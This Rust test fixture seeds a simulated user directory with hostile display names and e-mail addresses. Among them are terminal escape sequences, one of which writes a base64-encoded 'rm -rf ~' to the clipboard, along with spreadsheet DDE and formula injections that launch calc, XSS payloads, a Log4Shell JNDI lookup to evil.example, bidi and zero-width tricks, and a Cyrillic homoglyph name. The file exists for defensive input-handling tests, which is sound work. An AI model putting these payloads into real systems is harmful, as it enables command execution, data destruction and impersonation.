//! `hostile`: names that attack terminals, spreadsheets and pages. The rest of the organization is that of `ready`.

use super::cast::{CONTOSO, Cast};
use crate::simulator::world::person::{Access::Basic, Person};

/// Display names, one attack each.
fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "\u{1b}[2J\u{1b}[31mRed Clearer",
        "\u{1b}]52;c;cm0gLXJmIH4=\u{7}Clipboard Writer",
        "\u{1b}]8;;http://evil.example/\u{1b}\\Link Maker\u{1b}]8;;\u{1b}\\",
        "\u{1b}P1;2|tmux\u{1b}\\Device Control",
        "\u{9b}31mC1 Control\u{9d}0;title\u{9c}",
        "Alice \u{202e}nimdA\u{202c} Override",
        "\u{2066}Isolate\u{2069} \u{200f}Mark\u{61c}",
        "Zero\u{200b}Width\u{200d}Joiner\u{feff}Name",
        "Family 👨‍👩‍👧‍👦 Emoji",
        "=HYPERLINK(\"http://evil.example\",\"Formula Cell\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3 Minus Cell",
        "@SUM(1) At Cell",
        "'Quoted Cell",
        "\tTab Cell",
        "\rCarriage Cell",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "Markdown [link](javascript:alert(1)) `code` | pipe",
        "Comma, \"Quote\"; Semicolon",
        "Line\nBreak\r\nName",
        "Nul\u{0}Byte",
        "Backspace\u{8}\u{8}\u{8}Rewriter",
        "ＦｕｌｌＷｉｄｔｈ　Ｎａｍｅ",
        "日本 太郎",
        "${jndi:ldap://evil.example/a} %s %n {0}",
        "",
        "   ",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push(format!("Z{} Combining", "\u{301}".repeat(200)));
    names.push(format!("Long {}", "x".repeat(10_000)));
    names
}

pub(super) fn play(cast: &mut Cast) {
    super::ready::play(cast);
    for (number, display) in names().into_iter().enumerate() {
        let local = format!("hostile.{number:02}");
        // every third maps by itself, every third is mappable, every third is nobody
        let user = cast.member(CONTOSO, &display, &local);
        let address = match number % 3 {
            0 => user.upn.clone(),
            1 => format!("{local}@fabrikam.com"),
            _ => format!("{local}@mailbox.example"),
        };
        if number % 3 < 2 {
            let mut user = user;
            user.proxies.push(format!("smtp:{local}@fabrikam.com"));
            cast.user(user);
        }
        let person = cast.msa(&display, &address, Basic, 5);
        cast.person(person);
    }
    // twins to the eye: the second has Cyrillic letters
    for (display, local) in [("Marco Pace", "marco.pace"), ("Маrсо Расе", "marco.pace2")] {
        let user = cast.member(CONTOSO, display, local);
        cast.user(user);
    }
    let person = cast.msa("Marco Pace", "mpace@mailbox.example", Basic, 3);
    cast.person(person);
    // addresses are text of strangers, too
    let person = cast.msa("Address Attacker", "=cmd|'/c calc'!a1@mailbox.example", Basic, 3);
    cast.person(Person { mail: "\u{1b}[31mred\u{202e}@mailbox.example".to_owned(), ..person });
}
